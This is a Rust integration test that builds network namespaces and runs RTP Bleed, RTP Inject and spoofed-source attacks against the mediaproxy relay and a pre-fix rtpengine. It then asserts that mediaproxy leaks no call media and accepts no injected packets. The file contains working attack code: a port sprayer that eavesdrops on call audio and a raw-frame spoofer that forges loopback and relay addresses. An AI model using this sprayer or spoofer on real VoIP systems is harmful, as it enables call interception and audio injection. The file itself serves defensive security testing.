//! The attack suite: RTP Bleed and RTP Inject (CVE-2025-53399, CVE-2017-14114) and spoofed
//! local sources, against mediaproxy with its default options and, in the same run, against
//! Debian's rtpengine (a release before the fix), on real namespaces:
//!
//! ```text
//!  phone A 10.0.1.2 ── r0 [relay] r1 203.0.113.1 ──┐ bridge "internet" 203.0.113.0/24
//!                                                  ├── NAT 203.0.113.7 (masquerade random) ── phone B 192.168.1.20
//!                                                  ├── attacker 203.0.113.66 (sprays RTP, listens for bleed)
//!                                                  └── spoofer 203.0.113.99 (raw frames from 127.0.0.1 and the relay's own addresses)
//! ```
//!
//! The call is set up over ng as Kamailio's stock rtpengine module does it (`received-from`
//! with the SIP source, `replace-origin replace-session-connection`). The attacker sprays
//! every port of the relay's (small) range on both of its addresses, a consistent RTP stream
//! per port, from four seconds before the phones speak to the end; phone B goes silent for 3 s
//! mid-call (hold). Phone B sits behind a port-randomising NAT, so it never matches its SDP
//! endpoint, and the spray reaches its port first.
//!
//! Figures per relay: `bleed` (call media the attackers received), `inject` (attack packets
//! the phones received), `local` (packets delivered to sockets on the relay host at the
//! spoofed sources) and delivery per direction. mediaproxy must show bleed = inject = local
//! = 0 and delivery ≥ 99 %; rtpengine's figures are printed beside them, not asserted.

use std::{
    collections::HashSet,
    net::{SocketAddr, UdpSocket},
    process::Stdio,
    sync::{
        Arc, Mutex,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
    time::{Duration, Instant},
};

use aya::programs::XdpMode;
use mediaproxy_lab::{
    rtp::RtpHeader,
    scenario::{Relay, sdp, sdp_media, sdp_of},
    testbed::{Guarded, Netns, link, veth},
};
use mediaproxy_tests::need_root;
use proxy_common::Endpoint;
use proxy_userspace::{
    frame::FrameBuilder,
    ng::{
        bencode::{Dict, Value},
        client::NgClient,
    },
};

const RELAY_IN: &str = "10.0.1.1";
const RELAY_OUT: &str = "203.0.113.1";
const PHONE_A: &str = "10.0.1.2:4000";
const PHONE_B_PRIVATE: &str = "192.168.1.20:5000";
const NAT_PUBLIC: &str = "203.0.113.7";
const ATTACKER: &str = "203.0.113.66:7000";
const PORT_MIN: u16 = 30_000;
const PORT_MAX: u16 = 30_039;
/// A spoofed source port: a local service on the relay host would listen here.
const SPOOFED_PORT: u16 = 5555;
const SSRC_A: u32 = 0xa;
const SSRC_B: u32 = 0xb;
/// Every attack packet's SSRC has this prefix, so a phone can tell an injection.
const ATTACK_SSRC: u32 = 0xbad0_0000;
/// The call: 10 s of 20 ms packets each way; B is on hold (silent) for 3 s in the middle.
const PACKETS: u16 = 500;
const HOLD: std::ops::Range<u16> = 150..300;
/// How long the spray runs before the phones speak: longer than the 3 s an unmatched source
/// waits, so that only the sprayer rule stands between it and the call.
const HEAD_START: Duration = Duration::from_secs(4);

/// The topology, one per relay under test.
struct Net {
    relay: Netns,
    a: Netns,
    b: Netns,
    nat: Netns,
    internet: Netns,
    attacker: Netns,
    spoofer: Netns,
}

impl Net {
    fn build(tag: &str) -> anyhow::Result<Self> {
        let n = |s: &str| Netns::new(&format!("{tag}{s}"));
        let t = Self {
            relay: n("r")?,
            a: n("a")?,
            b: n("b")?,
            nat: n("n")?,
            internet: n("i")?,
            attacker: n("x")?,
            spoofer: n("s")?,
        };
        link(
            &t.a,
            "a0",
            &["10.0.1.2/24"],
            &t.relay,
            "r0",
            &["10.0.1.1/24"],
        )?;
        t.a.ip(&["route", "add", "default", "via", RELAY_IN])?;
        t.internet.ip(&["link", "add", "br0", "type", "bridge"])?;
        t.internet.ip(&["link", "set", "br0", "up"])?;
        for (ns, ifname, host_if, addr) in [
            (&t.relay, "r1", "ir", "203.0.113.1/24"),
            (&t.nat, "nout", "in", "203.0.113.7/24"),
            (&t.attacker, "x0", "ix", "203.0.113.66/24"),
            (&t.spoofer, "s0", "is", "203.0.113.99/24"),
        ] {
            veth(ns, ifname, &t.internet, host_if)?;
            t.internet.ip(&["link", "set", host_if, "master", "br0"])?;
            ns.ip(&["addr", "add", addr, "dev", ifname])?;
        }
        // The attacker also reaches the relay's inside address through its outside interface
        // (a relay host's weak host model), and sprays it too.
        t.attacker
            .ip(&["route", "add", "10.0.1.0/24", "via", RELAY_OUT])?;
        link(
            &t.nat,
            "nin",
            &["192.168.1.1/24"],
            &t.b,
            "b0",
            &["192.168.1.20/24"],
        )?;
        t.b.ip(&["route", "add", "default", "via", "192.168.1.1"])?;
        t.nat.sysctl("net.ipv4.ip_forward=1")?;
        let rules = "table ip nat {\n chain postrouting {\n  type nat hook postrouting priority srcnat; policy accept;\n  oifname \"nout\" masquerade random\n }\n}\n";
        let path = std::env::temp_dir().join(format!("{}.nft", t.nat.name()));
        std::fs::write(&path, rules)?;
        t.nat.exec(&["nft", "-f", &path.to_string_lossy()])?;
        let _ = std::fs::remove_file(&path);
        Ok(t)
    }

    fn relay_mac(&self) -> [u8; 6] {
        let out = self
            .relay
            .exec(&["cat", "/sys/class/net/r1/address"])
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        let mut mac = [0u8; 6];
        for (i, b) in text.trim().split(':').enumerate().take(6) {
            mac[i] = u8::from_str_radix(b, 16).unwrap();
        }
        mac
    }
}

fn addr(s: &str) -> SocketAddr {
    s.parse().expect("a literal address")
}

/// Offer and answer as Kamailio's rtpengine module sends them; returns where each phone
/// must send: `(a_sends_to, b_sends_to)`.
fn call(c: &NgClient, call_id: &str, strict: bool) -> anyhow::Result<(SocketAddr, SocketAddr)> {
    let request = |command: &str, from_ip: &str, media: SocketAddr, to_tag: bool| {
        let mut d = Dict::new();
        d.push("command", Value::str(command));
        d.push("call-id", Value::str(call_id));
        d.push("from-tag", Value::str("tag-a"));
        if to_tag {
            d.push("to-tag", Value::str("tag-b"));
        }
        d.push(
            "sdp",
            Value::str(&sdp(&media.ip().to_string(), media.port())),
        );
        d.push(
            "replace",
            Value::List(vec![Value::str("origin"), Value::str("session-connection")]),
        );
        d.push(
            "received-from",
            Value::List(vec![Value::str("IP4"), Value::str(from_ip)]),
        );
        d.push(
            "direction",
            Value::List(vec![Value::str("internal"), Value::str("external")]),
        );
        if strict {
            d.push("flags", Value::List(vec![Value::str("strict source")]));
        }
        d.push("supports", Value::List(vec![Value::str("load limit")]));
        d
    };
    let check = |r: Dict| -> anyhow::Result<Dict> {
        anyhow::ensure!(
            r.get_str("result") == Some("ok"),
            "ng reply: {:?}",
            r.get_str("error-reason")
        );
        Ok(r)
    };
    let offer = check(c.request(&request("offer", "10.0.1.2", addr(PHONE_A), false))?)?;
    let b_sends_to = sdp_media(&sdp_of(&offer)?)?;
    let answer = check(c.request(&request("answer", NAT_PUBLIC, addr(PHONE_B_PRIVATE), true))?)?;
    let a_sends_to = sdp_media(&sdp_of(&answer)?)?;
    Ok((a_sends_to, b_sends_to))
}

/// A phone: sends `PACKETS` packets 20 ms apart (skipping `silent`), and sorts what arrives
/// into the far phone's media and everything else (an injection).
struct Phone {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    got: Arc<Mutex<HashSet<u16>>>,
    injected: Arc<AtomicU64>,
    threads: Vec<JoinHandle<()>>,
}

impl Phone {
    fn start(
        ns: &Netns,
        bind: SocketAddr,
        to: SocketAddr,
        ssrc: u32,
        peer_ssrc: u32,
        silent: std::ops::Range<u16>,
    ) -> Self {
        let sock = Arc::new(ns.enter(move || UdpSocket::bind(bind)).unwrap().unwrap());
        sock.set_read_timeout(Some(Duration::from_millis(50)))
            .unwrap();
        let p = Self {
            stop: Arc::new(AtomicBool::new(false)),
            sent: Arc::new(AtomicU64::new(0)),
            got: Arc::new(Mutex::new(HashSet::new())),
            injected: Arc::new(AtomicU64::new(0)),
            threads: Vec::new(),
        };
        let (s, stop, sent) = (sock.clone(), p.stop.clone(), p.sent.clone());
        let tx = std::thread::spawn(move || {
            let t0 = Instant::now();
            for n in 0..PACKETS {
                if stop.load(Ordering::Relaxed) {
                    break;
                }
                let due = t0 + Duration::from_millis(20) * u32::from(n);
                if let Some(w) = due.checked_duration_since(Instant::now()) {
                    std::thread::sleep(w);
                }
                if !silent.contains(&n) && s.send_to(&RtpHeader::g711_packet(ssrc, n), to).is_ok() {
                    sent.fetch_add(1, Ordering::Relaxed);
                }
            }
        });
        let (s, stop, got, injected) = (sock, p.stop.clone(), p.got.clone(), p.injected.clone());
        let rx = std::thread::spawn(move || {
            let mut buf = [0u8; 2048];
            while !stop.load(Ordering::Relaxed) {
                let Ok((n, _)) = s.recv_from(&mut buf) else {
                    continue;
                };
                match RtpHeader::parse(&buf[..n]) {
                    Some(h) if h.ssrc == peer_ssrc => {
                        got.lock().unwrap().insert(h.seq);
                    }
                    _ => {
                        injected.fetch_add(1, Ordering::Relaxed);
                    }
                }
            }
        });
        Phone {
            threads: vec![tx, rx],
            ..p
        }
    }

    fn finish(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

/// The attacker: a consistent RTP stream (one SSRC, sequence in order) to every port of the
/// range on both relay addresses, each port every 20 ms; counts the call media it receives.
struct Sprayer {
    stop: Arc<AtomicBool>,
    bleed: Arc<AtomicU64>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Sprayer {
    #[expect(
        clippy::cast_possible_truncation,
        reason = "test frames and counts far below the fields' limits"
    )]
    fn start(ns: &Netns) -> Self {
        let sock = ns
            .enter(|| UdpSocket::bind(addr(ATTACKER)))
            .unwrap()
            .unwrap();
        sock.set_nonblocking(true).unwrap();
        let s = Self {
            stop: Arc::new(AtomicBool::new(false)),
            bleed: Arc::new(AtomicU64::new(0)),
            sent: Arc::new(AtomicU64::new(0)),
            thread: None,
        };
        let (stop, bleed, sent) = (s.stop.clone(), s.bleed.clone(), s.sent.clone());
        let thread = std::thread::spawn(move || {
            let targets: Vec<SocketAddr> = [RELAY_IN, RELAY_OUT]
                .iter()
                .flat_map(|ip| (PORT_MIN..=PORT_MAX).map(move |p| addr(&format!("{ip}:{p}"))))
                .collect();
            let mut buf = [0u8; 2048];
            let t0 = Instant::now();
            let mut round = 0u32;
            while !stop.load(Ordering::Relaxed) {
                for (i, t) in targets.iter().enumerate() {
                    let ssrc = ATTACK_SSRC | i as u32;
                    if sock
                        .send_to(&RtpHeader::g711_packet(ssrc, round as u16), *t)
                        .is_ok()
                    {
                        sent.fetch_add(1, Ordering::Relaxed);
                    }
                }
                while let Ok((n, _)) = sock.recv_from(&mut buf) {
                    if RtpHeader::parse(&buf[..n])
                        .is_some_and(|h| h.ssrc == SSRC_A || h.ssrc == SSRC_B)
                    {
                        bleed.fetch_add(1, Ordering::Relaxed);
                    }
                }
                round += 1;
                let due = t0 + Duration::from_millis(20) * round;
                if let Some(w) = due.checked_duration_since(Instant::now()) {
                    std::thread::sleep(w);
                }
            }
        });
        Self {
            thread: Some(thread),
            ..s
        }
    }

    fn finish(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// The second attacker: raw frames whose source is 127.0.0.1 or one of the relay's own
/// addresses, to every port of the range, so that a relay latching them would send the call's
/// media to local services.
struct Spoofer {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Spoofer {
    #[expect(
        clippy::cast_possible_truncation,
        reason = "test frames and counts far below the fields' limits"
    )]
    fn start(ns: &Netns, relay_mac: [u8; 6]) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let fd = ns.enter(|| packet_socket("s0")).unwrap().unwrap();
        let s = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut frames = Vec::new();
            for (i, src) in ["127.0.0.1", RELAY_OUT, RELAY_IN].iter().enumerate() {
                for dst in [RELAY_IN, RELAY_OUT] {
                    for p in PORT_MIN..=PORT_MAX {
                        let from = Endpoint::from(addr(&format!("{src}:{SPOOFED_PORT}")));
                        let to = Endpoint::from(addr(&format!("{dst}:{p}")));
                        frames.push((i, from, to));
                    }
                }
            }
            let mut round = 0u16;
            let t0 = Instant::now();
            while !s.load(Ordering::Relaxed) {
                for (k, (i, from, to)) in frames.iter().enumerate() {
                    let ssrc = ATTACK_SSRC | 0x1_0000 | (*i as u32) << 12 | k as u32;
                    let f = FrameBuilder::udp(*from, *to)
                        .macs([0x02, 0, 0, 0, 0x99, 0x99], relay_mac)
                        .payload(&RtpHeader::g711_packet(ssrc, round))
                        .build();
                    // SAFETY: a bound AF_PACKET socket and a buffer of the stated length.
                    unsafe { libc::send(fd.0, f.as_ptr().cast(), f.len(), 0) };
                }
                round = round.wrapping_add(1);
                // Every target every 40 ms: 240 targets, 6,000 frames a second.
                let due = t0 + Duration::from_millis(40) * u32::from(round);
                if let Some(w) = due.checked_duration_since(Instant::now()) {
                    std::thread::sleep(w);
                }
            }
            drop(fd);
        });
        Self {
            stop,
            thread: Some(thread),
        }
    }

    fn finish(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

struct Fd(i32);

impl Drop for Fd {
    fn drop(&mut self) {
        // SAFETY: our own descriptor.
        unsafe { libc::close(self.0) };
    }
}

/// An `AF_PACKET` socket bound to `ifname` in the calling thread's namespace.
#[expect(
    clippy::cast_possible_truncation,
    clippy::cast_possible_wrap,
    reason = "ETH_P_ALL and socket address sizes fit their C fields"
)]
fn packet_socket(ifname: &str) -> std::io::Result<Fd> {
    let ifindex = proxy_userspace::caps::ifindex(ifname).map_err(std::io::Error::other)?;
    // SAFETY: plain socket(2).
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    let fd = Fd(fd);
    // SAFETY: zeroed sockaddr_ll is valid; the fields set are the ones bind(2) reads.
    let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    sll.sll_family = libc::AF_PACKET as u16;
    sll.sll_ifindex = ifindex as i32;
    // SAFETY: sll is a sockaddr_ll of the stated size.
    let rc = unsafe {
        libc::bind(
            fd.0,
            (&raw const sll).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as u32,
        )
    };
    if rc < 0 {
        return Err(std::io::Error::last_os_error());
    }
    Ok(fd)
}

/// Sockets on the relay host at the spoofed sources: a relay that latched a spoofed source
/// and sent there would deliver into them.
struct LocalTraps {
    socks: Vec<UdpSocket>,
}

impl LocalTraps {
    fn bind(ns: &Netns) -> Self {
        let socks = ["127.0.0.1", RELAY_IN, RELAY_OUT]
            .iter()
            .map(|ip| {
                let a = addr(&format!("{ip}:{SPOOFED_PORT}"));
                let s = ns.enter(move || UdpSocket::bind(a)).unwrap().unwrap();
                s.set_nonblocking(true).unwrap();
                s
            })
            .collect();
        Self { socks }
    }

    fn count(&self) -> u64 {
        let mut buf = [0u8; 2048];
        let mut n = 0;
        for s in &self.socks {
            while s.recv_from(&mut buf).is_ok() {
                n += 1;
            }
        }
        n
    }
}

#[derive(Debug)]
struct Figures {
    bleed: u64,
    inject: u64,
    local: u64,
    ab: (u64, u64),
    ba: (u64, u64),
    sprayed: u64,
}

impl Figures {
    #[expect(
        clippy::cast_precision_loss,
        reason = "a ratio of packet counts far below 2^52"
    )]
    fn pct((got, sent): (u64, u64)) -> f64 {
        if sent == 0 {
            0.0
        } else {
            got as f64 * 100.0 / sent as f64
        }
    }

    fn print(&self, label: &str) {
        println!(
            "attack | {label:<58} | bleed {:>5} | inject {:>5} | local {:>3} | A→B {:>3}/{} ({:5.1} %) | B→A {:>3}/{} ({:5.1} %) | sprayed {}",
            self.bleed,
            self.inject,
            self.local,
            self.ab.0,
            self.ab.1,
            Self::pct(self.ab),
            self.ba.0,
            self.ba.1,
            Self::pct(self.ba),
            self.sprayed
        );
    }
}

/// Sets the call up on the relay in `t.relay` (ng at `ng`), runs the attack and the call,
/// and returns the figures.
fn attack(t: &Net, ng: &NgClient, call_id: &str, strict: bool) -> Figures {
    let traps = LocalTraps::bind(&t.relay);
    let (a_to, b_to) = call(ng, call_id, strict).unwrap();
    let mut sprayer = Sprayer::start(&t.attacker);
    let mut spoofer = Spoofer::start(&t.spoofer, t.relay_mac());
    std::thread::sleep(HEAD_START);
    let mut a = Phone::start(&t.a, addr(PHONE_A), a_to, SSRC_A, SSRC_B, 0..0);
    let mut b = Phone::start(&t.b, addr(PHONE_B_PRIVATE), b_to, SSRC_B, SSRC_A, HOLD);
    // The phones' senders end after PACKETS × 20 ms; wait for that, then for stragglers.
    let deadline = Instant::now() + Duration::from_millis(u64::from(PACKETS) * 20 + 1000);
    while Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    sprayer.finish();
    spoofer.finish();
    a.finish();
    b.finish();
    let got = |p: &Phone| p.got.lock().unwrap().len() as u64;
    Figures {
        bleed: sprayer.bleed.load(Ordering::Relaxed),
        inject: a.injected.load(Ordering::Relaxed) + b.injected.load(Ordering::Relaxed),
        local: traps.count(),
        ab: (got(&b), a.sent.load(Ordering::Relaxed)),
        ba: (got(&a), b.sent.load(Ordering::Relaxed)),
        sprayed: sprayer.sent.load(Ordering::Relaxed),
    }
}

fn rtpengine(t: &Net, tag: &str, extra: &[&str]) -> (Guarded, NgClient) {
    let dir = std::env::temp_dir().join(format!("mp-attack-{tag}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let log = std::fs::File::create(dir.join("rtpengine.log")).unwrap();
    let pid = dir.join("rtpengine.pid");
    let (min, max) = (
        format!("--port-min={PORT_MIN}"),
        format!("--port-max={PORT_MAX}"),
    );
    let mut args = vec![
        "rtpengine",
        "--table=-1",
        "--interface=internal/10.0.1.1",
        "--interface=external/203.0.113.1",
        "--listen-ng=127.0.0.1:2223",
        &min,
        &max,
        "--foreground",
        "--log-stderr",
    ];
    let pid_s = pid.to_string_lossy().into_owned();
    args.extend(["--pidfile", &pid_s]);
    args.extend_from_slice(extra);
    let child = t
        .relay
        .spawn(&args)
        .unwrap()
        .stdin(Stdio::null())
        .stdout(log.try_clone().unwrap())
        .stderr(log)
        .spawn()
        .unwrap();
    let guard = Guarded(child);
    let c = t
        .relay
        .enter(|| NgClient::new(addr("127.0.0.1:2223")))
        .unwrap()
        .unwrap();
    let mut ping = Dict::new();
    ping.push("command", Value::str("ping"));
    let deadline = Instant::now() + Duration::from_secs(20);
    while c.request(&ping).is_err() {
        assert!(Instant::now() < deadline, "rtpengine did not come up");
        std::thread::sleep(Duration::from_millis(100));
    }
    (guard, c)
}

fn rtpengine_version() -> String {
    std::process::Command::new("rtpengine")
        .arg("--version")
        .output()
        .map_or_else(
            |_| "unknown".into(),
            |o| {
                let mut text = String::from_utf8_lossy(&o.stdout).into_owned();
                text.push_str(&String::from_utf8_lossy(&o.stderr));
                text.lines()
                    .find(|l| l.starts_with("Version: "))
                    .unwrap_or_default()
                    .trim()
                    .trim_start_matches("Version: ")
                    .to_owned()
            },
        )
}

#[test]
#[expect(
    clippy::similar_names,
    reason = "ping and pong, as the ng protocol names them"
)]
fn port_spraying_and_spoofing_win_nothing() {
    need_root();
    let t = Net::build("atk").unwrap();
    let (min, max) = (PORT_MIN.to_string(), PORT_MAX.to_string());
    let relay = Relay::start(
        &t.relay,
        &["internal/10.0.1.1", "external/203.0.113.1"],
        &["--port-min", &min, "--port-max", &max],
        false,
        XdpMode::Default,
    )
    .unwrap();
    let ours = attack(&t, &relay.ng(&t.relay).unwrap(), "attack-mp", false);
    // The daemon is still up and answers.
    let mut ping = Dict::new();
    ping.push("command", Value::str("ping"));
    let pong = relay.ng(&t.relay).unwrap().request(&ping).unwrap();
    drop(relay);

    // The same attack on rtpengine, one fresh topology per configuration.
    let version = rtpengine_version();
    let mut theirs = Vec::new();
    for (tag, extra, strict, label) in [
        ("atd", &[][..], false, "defaults"),
        (
            "ath",
            &["--endpoint-learning=heuristic"][..],
            true,
            "--endpoint-learning=heuristic, strict source",
        ),
    ] {
        let t = Net::build(tag).unwrap();
        let (_rtpe, c) = rtpengine(&t, tag, extra);
        let f = attack(&t, &c, &format!("attack-{tag}"), strict);
        theirs.push((format!("rtpengine {version} (pre-fix), {label}"), f));
    }

    ours.print("mediaproxy, default options");
    for (label, f) in &theirs {
        f.print(label);
    }
    assert_eq!(pong.get_str("result"), Some("pong"), "the daemon survived");
    assert!(ours.sprayed > 10_000, "the spray ran: {ours:?}");
    assert_eq!(
        ours.bleed, 0,
        "no call media reached the attacker: {ours:?}"
    );
    assert_eq!(ours.inject, 0, "no attack packet reached a phone: {ours:?}");
    assert_eq!(
        ours.local, 0,
        "nothing was sent to a spoofed local source: {ours:?}"
    );
    for (dir, f) in [("A→B", ours.ab), ("B→A", ours.ba)] {
        assert!(
            Figures::pct(f) >= 99.0,
            "{dir}: {} of {} delivered",
            f.0,
            f.1
        );
    }
}
